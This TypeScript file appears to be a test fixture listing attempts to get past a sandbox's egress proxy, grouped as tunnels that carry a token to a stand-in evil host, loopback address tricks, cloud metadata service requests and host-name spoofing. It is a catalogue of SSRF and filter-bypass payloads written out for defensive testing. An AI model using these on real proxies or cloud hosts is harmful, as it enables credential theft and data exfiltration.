import { attemptsOf } from '../attempt.ts';

const usual = { way: 'proxy', goal: 'heard', language: 'python' } as const;

/** Through the proxy, to somewhere that no rule names. */
export const proxiedHosts = [
  ...attemptsOf(
    { ...usual, category: 'proxy: another host' },
    {
      'a tunnel to another host': `connect(EVIL)`,
      'TLS in a tunnel to another host': `tunnel(get(host=EVIL), EVIL)`,
      'a tunnel in HTTP/1.0': `connect(EVIL, version='1.0')`,
      'a tunnel that names an allowed host in its header': `connect(EVIL, REGISTRY)`,
      'a request without TLS': `plain(host=EVIL)`,
      'a request that names an allowed host in its header': `plain(host=EVIL, named='plain.example.com:%d' % PORT)`,
      'https without a tunnel': `proxy(get('https://%s/%s' % (EVIL, TOKEN), EVIL))`,
      'a name that begins like an allowed one': `connect('registry.example.com.evil.example:%d' % PORT)`,
      'a name that ends like an allowed one': `connect('evilregistry.example.com:%d' % PORT)`,
      'another port of an allowed host': `connect('registry.example.com:22')`,
      'a tunnel without TLS': `connect(REGISTRY, then='SSH-2.0-%s\\r\\n' % TOKEN)`,
      'a request without TLS to a host of TLS': `plain(host=REGISTRY)`,
    },
  ),
  ...attemptsOf(
    { ...usual, category: 'proxy: addresses' },
    {
      loopback: `connect('127.0.0.1:%d' % PORT)`,
      'the host': `connect('%s:%d' % (env['HOST_ADDRESS'], PORT))`,
      'loopback by name': `connect('localhost:%d' % PORT)`,
      'loopback in IPv6': `connect('[::1]:%d' % PORT)`,
      'a mapped address': `connect('[::ffff:127.0.0.1]:%d' % PORT)`,
      'a decimal address': `connect('2130706433:%d' % PORT)`,
      'an octal address': `connect('0177.0.0.1:%d' % PORT)`,
      'a hexadecimal address': `connect('0x7f000001:%d' % PORT)`,
      'a short address': `connect('127.1:%d' % PORT)`,
      'an address without TLS': `plain(host='127.0.0.1:%d' % PORT)`,
      'an allowed name that leads to loopback': `tunnel(get('/pkg/' + TOKEN, 'inward.example.com:%d' % PORT), 'inward.example.com:%d' % PORT)`,
      'an allowed name that leads to loopback, without TLS': `plain('/pkg/' + TOKEN, host='inward.example.com:%d' % PORT)`,
    },
  ),
  ...attemptsOf(
    { ...usual, category: 'proxy: metadata services' },
    {
      'by address': `plain('/latest/meta-data/' + TOKEN, '169.254.169.254')`,
      'by address in a tunnel': `connect('169.254.169.254:80')`,
      'by address in decimal': `plain('/' + TOKEN, '2852039166')`,
      'by address mapped into IPv6': `connect('[::ffff:a9fe:a9fe]:80')`,
      'by name': `plain('/computeMetadata/v1/' + TOKEN, 'metadata.google.internal', 'Metadata-Flavor: Google\\r\\n')`,
    },
  ),
  ...attemptsOf(
    { ...usual, category: 'proxy: odd spellings' },
    {
      'a null byte': `connect('registry.example.com\\0.evil.example.com:%d' % PORT)`,
      'a null byte in percent code': `connect('registry.example.com%%00.evil.example.com:%d' % PORT)`,
      'a percent code': `connect('evil%%2eexample.com:%d' % PORT)`,
      'a login': `connect('registry.example.com@evil.example.com:%d' % PORT)`,
      'a login without TLS': `proxy(get('http://plain.example.com:%d@evil.example.com:%d/%s' % (PORT, PORT, TOKEN), 'plain.example.com:%d' % PORT))`,
      'a blank': `connect('registry.example.com evil.example.com:%d' % PORT)`,
      'a tab': `connect('registry.example.com\\tevil.example.com:%d' % PORT)`,
      'a dot at the end': `connect('evil.example.com.:%d' % PORT)`,
      'wide letters': `connect('evil\\xb7example.com:%d' % PORT)`,
      'a backslash': `proxy(get('http://plain.example.com:%d\\\\@evil.example.com:%d/%s' % (PORT, PORT, TOKEN), 'plain.example.com:%d' % PORT))`,
      'a fragment': `proxy(get('http://evil.example.com:%d#@plain.example.com:%d/%s' % (PORT, PORT, TOKEN), 'plain.example.com:%d' % PORT))`,
      'two ports': `connect('registry.example.com:%d:%d' % (PORT, PORT))`,
    },
  ),
];
